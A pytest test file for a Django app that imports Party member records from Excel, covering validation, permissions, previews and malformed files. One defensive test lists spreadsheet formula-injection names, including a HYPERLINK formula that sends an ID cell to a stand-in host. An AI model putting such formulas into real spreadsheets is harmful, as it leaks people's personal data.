"""The Excel import of member files, as a Party-affairs worker or branch secretary sees it on the import page."""

from __future__ import annotations

import datetime
import html
import io
import re

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test import override_settings
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from chuxin.audit.models import AuditEntry
from chuxin.core.models import ImportJob
from chuxin.members import citizen_id, importing
from chuxin.members.models import Member
from chuxin.members.services import apply_citizen_id
from chuxin.orgs.models import Department, Organization
from chuxin.testing import make_member, valid_citizen_id

URL = reverse("members:import")
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
HEADER = [
    "姓名", "性别", "民族", "出生日期", "公民身份号码", "手机号", "学历", "工作单位", "部门", "岗位", "入党日期",
    "转正日期", "党员类别", "状态", "党组织编码",
]
BORN = datetime.date(1990, 3, 4)


def person(name: str = "赵六", *, male: bool = True, born: datetime.date = BORN, cid: str | None = None,
           code: str = "B1", category: str = "正式党员", joined="2015-07-01", full="2016-07-01", **extra) -> dict:
    return {
        "姓名": name, "性别": "男" if male else "女", "民族": "汉族", "出生日期": born,
        "公民身份号码": cid or valid_citizen_id(born, male=male), "手机号": "", "学历": "本科", "工作单位": "",
        "部门": "", "岗位": "", "入党日期": joined, "转正日期": full, "党员类别": category, "状态": "正常",
        "党组织编码": code, **extra,
    }


def workbook_bytes(rows: list, header: list[str] | None = None) -> bytes:
    """Rows are dicts keyed by header title, or plain lists in header order."""
    header = HEADER if header is None else header
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(header)
    for row in rows:
        ws.append([row.get(title) for title in header] if isinstance(row, dict) else row)
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


def upload(content: bytes | list, name: str = "members.xlsx", header: list[str] | None = None) -> SimpleUploadedFile:
    if isinstance(content, list):
        content = workbook_bytes(content, header)
    return SimpleUploadedFile(name, content, content_type=XLSX)


def shown_rows(response) -> list[tuple[str, ...]]:
    """(row, name, column, problem) as the table on the page shows them."""
    page = response.content.decode()
    table = re.search(r'data-testid="import-errors">(.*?)</table>', page, re.S)
    if table is None:
        return []
    body = table.group(1).split("<tbody>", 1)[1]
    rows = re.findall(r"<tr>(.*?)</tr>", body, re.S)
    return [tuple(html.unescape(re.sub(r"<[^>]+>", "", c)).strip() for c in re.findall(r"<td[^>]*>(.*?)</td>", r, re.S))
            for r in rows]


def shown_errors(response) -> list[tuple[str, str, str]]:
    """(row, column, problem) as the table on the page shows them (the member's name aside)."""
    return [(row, column, problem) for row, _name, column, problem in shown_rows(response)]


@pytest.fixture
def en_client_for(client_for):
    """A logged-in client whose pages are in English, so assertions read the same once Chinese is translated."""

    def login(user):
        client = client_for(user)
        client.cookies["django_language"] = "en"
        return client

    return login


def post(client, content, *, confirm: bool = True, **kwargs):
    """Upload a file as the page does. A file without problems is checked and shown to confirm first (the job's
    page); with `confirm` the test then confirms it as a person would, so the answer is the import's result page."""
    response = client.post(URL, {"file": upload(content, **kwargs)})
    if response.status_code != 302 or not confirm:
        return response
    job = ImportJob.objects.get(pk=int(response["Location"].rstrip("/").rsplit("/", 1)[1]))
    if not job.is_checked:
        return client.get(response["Location"])
    return client.post(reverse("members:import-confirm", args=[job.pk]), follow=True)


# --- who may import ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize("who", ["member_user", "viewer", "committee", "stranger"])
def test_people_who_do_not_manage_files_get_403(world, client_for, who):
    client = client_for(getattr(world, who))
    assert client.get(URL).status_code == 403
    assert client.get(reverse("members:import-template")).status_code == 403
    assert client.post(URL, {"file": upload([person()])}).status_code == 403
    assert Member.objects.count() == 2


def test_the_page_offers_the_form_and_the_template(world, en_client_for):
    response = en_client_for(world.secretary).get(URL)
    page = response.content.decode()
    assert response.status_code == 200
    assert 'enctype="multipart/form-data"' in page
    assert reverse("members:import-template") in page
    assert "csrfmiddlewaretoken" in page


# --- a good file --------------------------------------------------------------------------------------------------


def test_a_good_file_creates_its_members(world, en_client_for):
    rows = [person("赵六"), person("钱七", male=False, category="预备党员", full=None), person("孙八", code="G1")]
    response = post(en_client_for(world.secretary), rows)

    assert response.status_code == 200
    page = response.content.decode()
    assert 'data-testid="import-summary"' in page
    assert re.search(r'data-testid="import-created">3<', page)
    assert Member.objects.count() == 5
    qian = Member.objects.get(name="钱七")
    assert (qian.gender, qian.category, qian.full_member_on, qian.education) == (
        "female", "probationary", None, "bachelor"
    )
    assert (qian.name_pinyin, qian.name_initials) == ("qianqi", "qq")
    number = rows[1]["公民身份号码"]
    assert citizen_id.decrypt(qian.citizen_id_encrypted) == number
    assert qian.citizen_id_masked == citizen_id.mask(number)
    assert qian.citizen_id_digest == citizen_id.digest(number)
    assert Member.objects.get(name="孙八").organization == world.g1
    entry = AuditEntry.objects.get(action=AuditEntry.Action.IMPORT)
    assert entry.actor == world.secretary
    assert entry.organization == world.b1  # the deepest organization above every row
    assert entry.changes | {} == {
        "file": "members.xlsx", "rows": 3, "created": 3, "updated": 0, "unchanged": 0,
    }


def test_english_titles_and_values_are_understood(world, en_client_for):
    header = ["  NAME ", "gender", "Birth Date", "citizen id number", "Date joined", "date of full membership",
              "category", "Organization Code", "Education", "Status", "Mobile phone", "Party organization"]
    number = valid_citizen_id(BORN, male=False)
    row = ["Li Na", "Female", BORN, number, "2015/7/1", "2016.07.01", "full member", "B1", "Bachelor's degree",
           "active", "139 0000 1234", "ignored: the export's organization name"]
    response = post(en_client_for(world.secretary), [row], header=header)

    assert response.context["result"].ok, shown_errors(response)
    member = Member.objects.get(name="Li Na")
    assert (member.gender, member.joined_on, member.full_member_on, member.phone, member.ethnicity) == (
        "female", datetime.date(2015, 7, 1), datetime.date(2016, 7, 1), "13900001234", "汉族"
    )


@pytest.mark.parametrize("cell", [
    "2015-07-01", "2015/7/1", "2015.07.01", "20150701", 20150701, "2015年7月1日",
    datetime.datetime(2015, 7, 1), datetime.date(2015, 7, 1),
])
def test_dates_in_every_accepted_form(world, client_for, cell):
    response = post(client_for(world.secretary), [person(joined=cell)])
    assert response.context["result"].ok, shown_errors(response)
    assert Member.objects.get(name="赵六").joined_on == datetime.date(2015, 7, 1)


def test_a_title_line_above_the_header_and_blank_rows_are_tolerated(world, en_client_for):
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["第一支部党员名册"])
    ws.append(HEADER)
    ws.append([person("赵六")[t] for t in HEADER])
    ws.append([])
    ws.append([person("钱七", born=datetime.date(1980, 1, 1), joined="1997-12-31", full="1998-12-31")[t] for t in HEADER])
    buffer = io.BytesIO()
    wb.save(buffer)

    response = post(en_client_for(world.secretary), buffer.getvalue())

    # The row number is the one Excel shows, counting the title line and the blank row.
    assert shown_errors(response) == [
        ("5", "入党日期", "The member was 17 on this date; a member joins at 18 or older."),
    ]


# --- one bad row ------------------------------------------------------------------------------------------------


def test_one_bad_row_writes_nothing_and_says_where(world, en_client_for):
    rows = [person("赵六"), person("钱七", male=False) | {"性别": "未知"}, person("孙八")]
    before = Member.objects.count()

    response = post(en_client_for(world.secretary), rows)

    assert Member.objects.count() == before
    assert not AuditEntry.objects.filter(action=AuditEntry.Action.IMPORT).exists()
    page = response.content.decode()
    assert "Nothing was imported." in page
    assert shown_errors(response) == [("3", "性别", "“未知” is not one of: male、female.")]


def test_every_problem_in_every_row_is_listed(world, en_client_for):
    good = valid_citizen_id(BORN)
    bad_check_digit = good[:17] + ("0" if good[17] != "0" else "1")
    rows = [
        person("赵六", cid=bad_check_digit, 手机号="12345", 民族="火星族"),
        person("钱七", joined="2005-01-01", full="2004-01-01"),  # 14 at joining, and full before joined
        person("孙八", full=None),  # a full member without the date of full membership
        person("李九", category="预备党员"),  # a probationary member with a date of full membership
        person("周十", 出生日期="1990-02-30", 入党日期="someday"),
        person("", 党员类别="", 党组织编码=""),
    ]
    response = post(en_client_for(world.secretary), rows)

    shown = {(row, column): message for row, column, message in shown_errors(response)}
    assert shown[("2", "公民身份号码")].startswith("The check digit of this citizen ID number is wrong")
    assert shown[("2", "手机号")] == "A mobile phone number has 11 digits and starts with 1."
    assert shown[("2", "民族")] == "“火星族” is not one of the 56 ethnic groups (e.g. 汉族)."
    assert shown[("3", "入党日期")] == "The member was 14 on this date; a member joins at 18 or older."
    assert shown[("4", "转正日期")] == "A full member needs the date of full membership."
    assert shown[("5", "转正日期")] == "A probationary member has no date of full membership yet."
    assert shown[("6", "出生日期")] == "“1990-02-30” is not a date; write it as 2020-01-02."
    assert shown[("6", "入党日期")] == "“someday” is not a date; write it as 2020-01-02."
    for column in ("姓名", "党员类别", "党组织编码"):
        assert shown[("7", column)] == "This cell must be filled in."
    assert Member.objects.count() == 2


def test_the_citizen_id_must_agree_with_birth_date_and_gender(world, en_client_for):
    rows = [
        person("赵六", cid=valid_citizen_id(datetime.date(1991, 3, 4))),
        person("钱七", cid=valid_citizen_id(BORN, male=False)),  # says 男
    ]
    shown = shown_errors(post(en_client_for(world.secretary), rows))
    assert shown == [
        ("2", "公民身份号码", "The citizen ID number gives the birth date 1991-03-04 but the birth date field says "
                          "1990-03-04."),
        ("3", "公民身份号码", "The citizen ID number's sex digit does not match the gender given."),
    ]


def test_a_citizen_id_that_excel_turned_into_a_number_is_explained(world, en_client_for):
    shown = shown_errors(post(en_client_for(world.secretary), [person(cid=110105199003041234.0)]))
    assert shown[0][:2] == ("2", "公民身份号码")
    assert "rounded" in shown[0][2]


def test_the_list_of_problems_is_capped(world, en_client_for):
    rows = [person(f"赵{i}", born=BORN + datetime.timedelta(days=i), 性别="?") for i in range(importing.MAX_ERRORS + 20)]
    response = post(en_client_for(world.secretary), rows)
    result = response.context["result"]
    assert result.error_count == importing.MAX_ERRORS + 20
    assert len(result.errors) == importing.MAX_ERRORS + 1
    assert result.errors[-1] == importing.RowError(
        0, "", f"{importing.MAX_ERRORS + 20} problems in all; the first {importing.MAX_ERRORS} are listed. "
        "Fix them and upload the file again.",
    )


# --- scope and duplicates ---------------------------------------------------------------------------------------


def test_an_organization_out_of_scope_reads_like_an_unknown_code(world, en_client_for):
    rows = [person("赵六", code="B2"), person("钱七", code="NOPE")]
    shown = shown_errors(post(en_client_for(world.secretary), rows))
    assert [s[:2] for s in shown] == [("2", "党组织编码"), ("3", "党组织编码")]
    assert shown[0][2].replace("B2", "X") == shown[1][2].replace("NOPE", "X")
    assert shown[0][2] == "There is no Party organization with the code or name “B2” among those you manage."
    # Named instead of coded, an organization out of scope is just as unknown.
    shown = shown_errors(post(en_client_for(world.secretary), [person("赵六", code=world.b2.name)]))
    assert shown == [("2", "党组织编码",
                      f"There is no Party organization with the code or name “{world.b2.name}” among those you manage.")]


def test_a_deactivated_organization_is_refused(world, en_client_for):
    Organization.objects.filter(pk=world.g1.pk).update(status=Organization.Status.DEACTIVATED)
    shown = shown_errors(post(en_client_for(world.secretary), [person(code="G1")]))
    assert shown == [("2", "党组织编码", "The organization “G1” has been deactivated.")]


def test_a_duplicate_within_the_file_names_the_earlier_row(world, en_client_for):
    number = valid_citizen_id(BORN)
    rows = [person("赵六", cid=number), person("钱七"), person("赵六", cid=number.lower())]
    shown = shown_errors(post(en_client_for(world.secretary), rows))
    assert shown == [("4", "公民身份号码", "This citizen ID number is already in row 2 of this file.")]


def test_a_member_registered_in_another_branch_is_refused_without_naming_it(world, en_client_for):
    other = world.b2_member
    number = citizen_id.decrypt(other.citizen_id_encrypted)
    row = person("王五", male=False, born=other.birth_date, cid=number)
    response = post(en_client_for(world.secretary), [row])

    # Not "already registered in another organization": that would confirm the person is a member elsewhere.
    assert shown_errors(response) == [
        ("2", "公民身份号码", "This ID number cannot be used here; ask the Party-affairs worker of your unit."),
    ]
    assert world.b2.name not in response.content.decode()
    other.refresh_from_db()
    assert other.organization == world.b2


def test_a_worker_above_both_branches_may_move_a_member(world, client_for):
    other = world.b2_member
    number = citizen_id.decrypt(other.citizen_id_encrypted)
    row = person("王五", male=False, born=other.birth_date, cid=number, joined="2010-07-01", full="2011-07-01")
    result = post(client_for(world.worker), [row]).context["result"]
    assert (result.ok, result.updated, result.created) == (True, 1, 0)
    other.refresh_from_db()
    assert other.organization == world.b1
    assert AuditEntry.objects.get(action=AuditEntry.Action.IMPORT).organization == world.pc


def test_work_unit_and_department_are_found_by_name(world, en_client_for):
    Department.objects.create(work_unit=world.unit, name="办公室")
    rows = [
        person("赵六", 工作单位="测试单位", 部门="办公室", 岗位="主任"),
        person("钱七", 工作单位="测试单位", 部门="财务科"),
        person("孙八", 工作单位="别的单位"),
        person("李九", 部门="办公室"),
    ]
    shown = shown_errors(post(en_client_for(world.worker), rows))
    assert shown == [
        ("3", "部门", "The work unit “测试单位” has no department named “财务科”."),
        ("4", "工作单位", "There is no work unit named “别的单位” among those you can see."),
        ("5", "部门", "Give the work unit this department belongs to."),
    ]
    result = post(en_client_for(world.worker), rows[:1]).context["result"]
    assert result.ok
    member = Member.objects.get(name="赵六")
    assert (member.work_unit.name, member.department.name, member.post) == ("测试单位", "办公室", "主任")


# --- importing again ----------------------------------------------------------------------------------------------


def test_importing_the_same_file_again_changes_nothing(world, client_for):
    content = workbook_bytes([person("赵六"), person("钱七", male=False), person("孙八")])
    client = client_for(world.secretary)
    assert post(client, content).context["result"].created == 3
    stamps = dict(Member.objects.values_list("pk", "updated_at"))

    with CaptureQueriesContext(connection) as queries:
        result = importing.import_members(actor=world.secretary, upload=upload(content))

    assert (result.ok, result.created, result.updated, result.unchanged) == (True, 0, 0, 3)
    writes = [q["sql"] for q in queries if q["sql"].lstrip().upper().startswith(("INSERT", "UPDATE", "DELETE"))]
    assert writes == []
    assert dict(Member.objects.values_list("pk", "updated_at")) == stamps
    assert AuditEntry.objects.filter(action=AuditEntry.Action.IMPORT).count() == 1
    page = post(client, content).content.decode()
    assert re.search(r'data-testid="import-unchanged">3<', page)


def test_a_changed_cell_updates_that_member_only(world, client_for):
    rows = [person("赵六"), person("钱七", male=False)]
    client = client_for(world.secretary)
    post(client, rows)
    zhao = Member.objects.get(name="赵六")
    rows[0] |= {"手机号": "13812345678", "状态": "转出"}
    rows[1] |= {"姓名": "钱琪"}

    result = post(client, rows).context["result"]

    assert (result.ok, result.created, result.updated, result.unchanged) == (True, 0, 2, 0)
    zhao.refresh_from_db()
    assert (zhao.phone, zhao.status, zhao.name) == ("13812345678", "transferred_out", "赵六")
    qian = Member.objects.get(citizen_id_digest=citizen_id.digest(rows[1]["公民身份号码"]))
    assert (qian.name, qian.name_pinyin, qian.name_initials) == ("钱琪", "qianqi", "qq")
    entry = AuditEntry.objects.filter(action=AuditEntry.Action.IMPORT).first()
    assert entry.changes["updated"] == 2


def test_empty_status_and_ethnicity_keep_what_the_file_says(world, client_for):
    member = make_member(world.b1, "周十", ethnicity="回族", status=Member.Status.SUSPENDED,
                         joined_on=datetime.date(2010, 7, 1), full_member_on=datetime.date(2011, 7, 1))
    number = citizen_id.decrypt(member.citizen_id_encrypted)
    row = person("周十", born=member.birth_date, cid=number, joined="2010-07-01", full="2011-07-01",
                 民族="", 状态="", 学历="")
    result = post(client_for(world.secretary), [row]).context["result"]
    assert (result.ok, result.unchanged) == (True, 1)
    member.refresh_from_db()
    assert (member.ethnicity, member.status) == ("回族", "suspended")


def test_an_exported_file_imports_again_unchanged(world, client_for):
    client = client_for(world.worker)
    exported = client.get(reverse("members:export") + "?full_id=1").content

    result = post(client, exported).context["result"]

    assert (result.ok, result.unchanged, result.total) == (True, 2, 2), result.errors


def test_an_export_with_masked_numbers_says_why_it_cannot_be_imported(world, en_client_for):
    client = en_client_for(world.secretary)
    exported = client.get(reverse("members:export")).content
    shown = shown_errors(post(client, exported))
    # A secretary may reveal neither the number nor the birth date (its digits 7-14): the export leaves both out.
    assert shown == [("2", "Birth date", "This cell must be filled in."),
                     ("2", "Citizen ID number", "This citizen ID number is masked. Type the full number, or export "
                                                "with full ID numbers.")]


# --- the template -------------------------------------------------------------------------------------------------


def test_the_template_downloads_and_imports_once_filled_in(world, client_for):
    client = client_for(world.secretary)
    response = client.get(reverse("members:import-template"))
    assert response.status_code == 200
    assert response["Content-Type"] == XLSX
    assert "attachment" in response["Content-Disposition"]

    wb = openpyxl.load_workbook(io.BytesIO(response.content))
    ws = wb.worksheets[0]
    header = [c.value for c in ws[1]]
    assert len(header) == 25  # with the national items (landline ... Party organization there)
    assert len(wb.worksheets) == 2  # the sheet to fill in and the instructions
    # gender, education, category, status, ethnicity; membership status, lost contact, its reason, away
    assert len(ws.data_validations.dataValidation) == 9
    number = valid_citizen_id(BORN, male=False)
    ws.append(["钱七", "female", "汉族", BORN, number, "13900000002", "bachelor", "", "", "", "2015-07-01",
               "2016-07-01", "full", "active", "", "", "", "", "", "", "", "", "", "", "B1"])
    buffer = io.BytesIO()
    wb.save(buffer)

    result = post(client, buffer.getvalue()).context["result"]

    assert (result.ok, result.created) == (True, 1), result.errors
    assert Member.objects.get(name="钱七").citizen_id_digest == citizen_id.digest(number)


def test_an_empty_template_says_there_are_no_members(world, en_client_for):
    client = en_client_for(world.secretary)
    content = client.get(reverse("members:import-template")).content
    assert shown_errors(post(client, content)) == [("—", "—", "The file has a header row but no members below it.")]


# --- files that are not what they claim ---------------------------------------------------------------------------


@override_settings(CHUXIN_IMPORT_MAX_BYTES=1024)
def test_an_oversized_file_is_refused_with_the_limit(world, en_client_for):
    response = post(en_client_for(world.secretary), [person(f"赵{i}") for i in range(50)])
    page = html.unescape(response.content.decode())
    assert re.search(r"The file is [\d.]+ MB; the limit is \d+ MB\.", page)
    assert response.context["result"] is None
    assert Member.objects.count() == 2


def test_a_text_file_named_xlsx_is_refused(world, en_client_for):
    response = post(en_client_for(world.secretary), "姓名,性别\n张三,男\n".encode())
    assert "This file is not a real .xlsx workbook." in html.unescape(response.content.decode())


def test_a_csv_file_is_refused(world, en_client_for):
    response = post(en_client_for(world.secretary), "姓名,性别\n张三,男\n".encode(), name="members.csv")
    assert "Upload an Excel workbook saved as .xlsx" in html.unescape(response.content.decode())


@pytest.mark.parametrize("damage", ["garbage", "truncated"])
def test_a_damaged_workbook_is_reported_not_a_500(world, en_client_for, damage):
    good = workbook_bytes([person()])
    content = b"PK\x03\x04" + b"\x00" * 200 if damage == "garbage" else good[: len(good) // 2]
    response = post(en_client_for(world.secretary), content)
    assert response.status_code == 200
    shown = shown_errors(response)
    assert len(shown) == 1
    assert shown[0][:2] == ("—", "—")
    assert "could not be opened as an Excel workbook" in shown[0][2]


def test_a_header_without_a_required_column_names_it(world, en_client_for):
    header = [t for t in HEADER if t != "入党日期"]
    response = post(en_client_for(world.secretary), [person()], header=header)
    assert shown_errors(response) == [("1", "—", "The header row lacks these required columns: Date joined.")]


def test_a_sheet_without_any_known_title(world, en_client_for):
    response = post(en_client_for(world.secretary), [["a", "b"]], header=["foo", "bar"])
    assert shown_errors(response)[0][0] == "1"
    assert "No header row was found" in shown_errors(response)[0][2]


@override_settings(CHUXIN_IMPORT_MAX_ROWS=2)
def test_too_many_rows_are_refused(world, en_client_for):
    response = post(en_client_for(world.secretary), [person("赵六"), person("钱七"), person("孙八")])
    assert shown_errors(response) == [("—", "—", "The file has more than 2 members. Split it into smaller files.")]


def test_messages_follow_the_users_language(world, client_for):
    client = client_for(world.secretary)
    client.cookies["django_language"] = "en"
    response = post(client, [person(性别="?")])
    page = response.content.decode()
    assert '<html lang="en">' in page
    assert "Nothing was imported." in page
    assert shown_errors(response) == [("2", "性别", "“?” is not one of: male、female.")]


def test_a_workbook_that_unpacks_to_far_too_much_is_refused(world, en_client_for, monkeypatch):
    monkeypatch.setattr(importing, "MAX_UNPACKED_BYTES", 2 * 1024 * 1024)
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(HEADER)
    ws.append([person()[t] for t in HEADER])
    for row in range(3, 100):  # 3 MB of padding that compresses to almost nothing
        ws.cell(row=row, column=26, value="x" * 32000)
    buffer = io.BytesIO()
    wb.save(buffer)
    assert len(buffer.getvalue()) < 200_000

    shown = shown_errors(post(en_client_for(world.secretary), buffer.getvalue()))

    assert shown == [("—", "—", "This workbook unpacks to more than 2 MB, far more than member files take. Copy the "
                                "members into a new workbook and upload that.")]


# --- formulas -----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", [
    '=HYPERLINK("http://x/?"&E2,"x")', "+86", "-赵六", "@SUM(A1)", "'=HYPERLINK(\"http://x/\",\"x\")",
])
def test_a_name_a_spreadsheet_would_run_as_a_formula_is_refused(world, en_client_for, name):
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(HEADER)
    ws.append([person(name)[t] for t in HEADER])
    ws["A2"].data_type = "s"  # a text cell, as Excel stores '=... typed with an apostrophe
    buffer = io.BytesIO()
    wb.save(buffer)

    shown = shown_errors(post(en_client_for(world.secretary), buffer.getvalue()))

    assert shown == [("2", "姓名", "This cannot start with =, +, -, @ or a tab: spreadsheet programs would run it "
                                 "as a formula.")]
    assert Member.objects.count() == 2


def test_text_that_the_export_escaped_imports_as_it_was(world, client_for):
    # A post may start with a dash; the export writes it with a protective apostrophe, the import takes it off.
    Member.objects.filter(pk=world.member.pk).update(post="-组织委员")
    client = client_for(world.worker)
    exported = client.get(reverse("members:export") + "?full_id=1").content
    cell = openpyxl.load_workbook(io.BytesIO(exported)).worksheets[0]["J2"]
    assert (cell.value, cell.data_type) == ("'-组织委员", "s")

    result = post(client, exported).context["result"]

    assert (result.ok, result.unchanged) == (True, 2), result.errors
    assert Member.objects.get(pk=world.member.pk).post == "-组织委员"


# --- the preview: checked, shown, written once confirmed ------------------------------------------------------------


def test_a_good_file_is_shown_with_what_it_would_write_and_written_only_once_confirmed(world, en_client_for):
    client = en_client_for(world.secretary)
    rows = [person("赵六"), person("钱七", male=False)]
    post(client, rows)  # both on file already
    rows[0] |= {"手机号": "13812345678"}
    rows.append(person("孙八", code="G1"))
    stamps = dict(Member.objects.values_list("pk", "updated_at"))
    imports = AuditEntry.objects.filter(action=AuditEntry.Action.IMPORT).count()

    checked = post(client, rows, confirm=False)
    job = ImportJob.objects.get(status=ImportJob.Status.CHECKED)
    assert checked["Location"] == reverse("members:import-job", args=[job.pk])
    page = html.unescape(client.get(checked["Location"]).content.decode())
    assert "“members.xlsx”: 1 new, 1 changed. Import it?" in page
    assert re.search(r'data-testid="preview-created">1<', page)
    assert re.search(r'data-testid="preview-updated">1<', page)
    assert re.search(r'data-testid="preview-unchanged">1<', page)
    assert f'action="{reverse("members:import-confirm", args=[job.pk])}"' in page
    assert 'enctype="multipart/form-data"' in page  # or upload a corrected file instead
    # Nothing written yet: no new file, no changed file, no audit entry.
    assert Member.objects.count() == 4 and dict(Member.objects.values_list("pk", "updated_at")) == stamps
    assert AuditEntry.objects.filter(action=AuditEntry.Action.IMPORT).count() == imports

    response = client.post(reverse("members:import-confirm", args=[job.pk]), follow=True)
    assert "Import finished: 1 added, 1 updated, 1 unchanged." in response.content.decode()
    assert Member.objects.count() == 5 and Member.objects.get(name="赵六").phone == "13812345678"
    entry = AuditEntry.objects.filter(action=AuditEntry.Action.IMPORT).first()
    assert (entry.changes["created"], entry.changes["updated"]) == (1, 1)

    # Confirming again (a double click, the back button) writes nothing more.
    again = client.post(reverse("members:import-confirm", args=[job.pk]), follow=True)
    assert "This import is no longer waiting for a confirmation." in again.content.decode()
    assert Member.objects.count() == 5
    assert AuditEntry.objects.filter(action=AuditEntry.Action.IMPORT).count() == imports + 1


def test_a_file_that_changes_nothing_needs_no_confirmation(world, client_for):
    client = client_for(world.secretary)
    content = workbook_bytes([person("赵六")])
    post(client, content)
    response = post(client, content, confirm=False)
    assert response.status_code == 200 and re.search(r'data-testid="import-unchanged">1<', response.content.decode())
    assert not ImportJob.objects.filter(status=ImportJob.Status.CHECKED).exists()


def test_what_changed_between_the_preview_and_the_confirmation_is_found(world, en_client_for):
    client = en_client_for(world.secretary)
    row = person("赵六")
    post(client, [row], confirm=False)
    job = ImportJob.objects.get()
    # Meanwhile the sibling branch registers the same person (the number is then no longer free to use here).
    twin = make_member(world.b2, "赵六")
    apply_citizen_id(twin, row["公民身份号码"])
    twin.save()
    response = client.post(reverse("members:import-confirm", args=[job.pk]), follow=True)
    assert "Nothing was imported." in response.content.decode()
    assert [s[:2] for s in shown_errors(response)] == [("2", "公民身份号码")]
    assert not Member.objects.filter(organization=world.b1, name="赵六").exists()


def test_a_preview_is_its_uploaders_alone(world, client_for):
    post(client_for(world.secretary), [person()], confirm=False)
    job = ImportJob.objects.get()
    for who in ("worker", "outsider"):  # they manage files too, but this is not their upload
        client = client_for(getattr(world, who))
        assert client.get(reverse("members:import-job", args=[job.pk])).status_code == 404
        assert client.post(reverse("members:import-confirm", args=[job.pk])).status_code == 404
    assert client_for(world.member_user).post(reverse("members:import-confirm", args=[job.pk])).status_code == 403
    assert Member.objects.count() == 2
    job.refresh_from_db()
    assert job.status == ImportJob.Status.CHECKED


def test_a_preview_left_unconfirmed_is_dropped_by_the_daily_housekeeping(world, en_client_for):
    from django.core.files.storage import default_storage
    from django.utils import timezone

    from chuxin.notifications.reminders import housekeep

    client = en_client_for(world.secretary)
    post(client, [person()], confirm=False)
    job = ImportJob.objects.get()
    stored = job.file.name
    housekeep(timezone.localdate())
    job.refresh_from_db()
    assert job.status == ImportJob.Status.CHECKED  # a fresh one waits
    ImportJob.objects.filter(pk=job.pk).update(updated_at=timezone.now() - importing.PREVIEW_KEPT * 2)
    housekeep(timezone.localdate())
    job.refresh_from_db()
    assert (job.status, job.file.name) == (ImportJob.Status.DONE, "")
    assert not default_storage.exists(stored)
    page = client.get(reverse("members:import-job", args=[job.pk])).content.decode()
    assert "was not confirmed in time" in html.unescape(page)
    client.post(reverse("members:import-confirm", args=[job.pk]))
    assert Member.objects.count() == 2


# --- what the problems say and what the file may name ---------------------------------------------------------------


def test_each_problem_is_listed_beside_the_members_name(world, en_client_for):
    rows = [person("赵六", code="NOPE"), person("钱七", male=False, joined="someday"),
            person("@孙八", category="?")]
    shown = shown_rows(post(en_client_for(world.secretary), rows))
    assert [(row, name) for row, name, _column, _problem in shown] == [
        ("2", "赵六"), ("3", "钱七"), ("4", "@孙八"), ("4", "@孙八")]  # a name refused is still the row's name
    # A row without a name shows a dash, as does a problem with the whole file.
    shown = shown_rows(post(en_client_for(world.secretary), [person("") | {"姓名": None}]))
    assert [(row, name) for row, name, _c, _p in shown] == [("2", "—")]


def test_the_organization_may_be_given_by_its_name(world, en_client_for):
    rows = [person("赵六", code=world.g1.name), person("钱七", male=False, code="B1")]
    result = post(en_client_for(world.secretary), rows).context["result"]
    assert (result.ok, result.created) == (True, 2), result.errors
    assert Member.objects.get(name="赵六").organization == world.g1
    # A column titled by name (党组织) is read as well as one titled by code.
    header = [title if title != "党组织编码" else "所在党组织" for title in HEADER]
    row = person("孙八") | {"所在党组织": world.b1.name}
    result = post(en_client_for(world.secretary), [row], header=header).context["result"]
    assert result.ok and Member.objects.get(name="孙八").organization == world.b1


def test_a_name_two_organizations_share_asks_for_the_code(world, en_client_for):
    from chuxin.orgs.services import organization_create

    organization_create(actor=None, parent=world.b1, name=world.g1.name, code="G1B",
                        kind=Organization.Kind.PARTY_GROUP)
    shown = shown_errors(post(en_client_for(world.secretary), [person("赵六", code=world.g1.name)]))
    assert shown == [("2", "党组织编码", f"Several organizations you manage are named “{world.g1.name}”; write the code "
                                     "of the one you mean.")]
    result = post(en_client_for(world.secretary), [person("赵六", code="G1B")]).context["result"]
    assert result.ok


def test_the_preview_and_the_names_read_in_chinese(world, client_for):
    client = client_for(world.secretary)  # the default language
    post(client, [person("赵六")], confirm=False, name="党员名册.xlsx")
    page = html.unescape(client.get(reverse("members:import-job", args=[ImportJob.objects.get().pk])).content.decode())
    assert "“党员名册.xlsx”：新增1人，修改0人。确认导入吗？" in page
    assert "文件已检查完毕，尚未写入任何数据" in page
    assert not re.search(r"\b(new|changed|Import)\b", re.sub(r"<[^>]+>", " ", page.split("<main", 1)[1]))
    errors = shown_rows(post(client, [person("钱七", code="NOPE")]))
    assert errors == [("2", "钱七", "党组织编码", "您管理的党组织中没有组织代码或名称为“NOPE”的党组织。")]
